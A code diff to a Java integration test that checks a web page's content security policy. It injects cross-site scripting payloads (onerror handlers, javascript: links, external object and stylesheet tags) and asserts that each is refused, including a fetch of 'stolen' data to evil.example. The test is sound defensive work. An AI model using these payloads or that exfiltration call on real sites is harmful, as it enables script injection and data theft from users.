@@ -28,7 +28,8 @@ class ContentPolicyIT {
             + "<object data='https://evil.example/x.swf'></object>"
             + "<style>body { display: none }</style><p style='position: fixed'>x</p>"
             + "<link rel='stylesheet' href='https://evil.example/x.css'>";
-    private static final String INSERT = "() => { const refused = [];"
+    /** Later, by itself: what a test evaluates at once may call eval, whatever the page says. */
+    private static final String INSERT = "() => new Promise(done => setTimeout(() => { const refused = [];"
             + "const attempt = (name, action) => { try { action(); } catch (e) { refused.push(name); } };"
             + "const made = name => document.body.appendChild(document.createElement(name));"
             + "attempt('innerHTML', () => { made('div').innerHTML = '<img src=x onerror=window.attacked=1>'; });"
@@ -44,7 +45,7 @@ class ContentPolicyIT {
             + "const image = made('img');"
             + "attempt('handler', () => { image.setAttribute('onerror', 'window.attacked = 1'); image.src = 'x'; });"
             + "const link = made('a'); link.href = 'javascript:window.attacked = 1'; link.click();"
-            + "return refused; }";
+            + "done(refused); }))";
 
     private static final InstanceOfAssertFactory<List, ListAssert<String>> LIST =
             InstanceOfAssertFactories.list(String.class);
@@ -107,7 +108,8 @@ class ContentPolicyIT {
             page.waitForFunction("document.querySelector('#app h1, #app .state')");
             assertThat(page.evaluate(INSERT))
                     .asInstanceOf(LIST)
-                    .contains("innerHTML", "script text", "script src", "srcdoc", "write", "Function", "policy");
+                    .contains(
+                            "innerHTML", "script text", "script src", "srcdoc", "write", "eval", "Function", "policy");
             page.waitForFunction("window.violations.length > 3");
             assertThat(page.evaluate("window.attacked")).isNull();
             assertThat(page.evaluate("fetch('https://evil.example/?stolen').then(() => 'sent', () => 'refused')"))
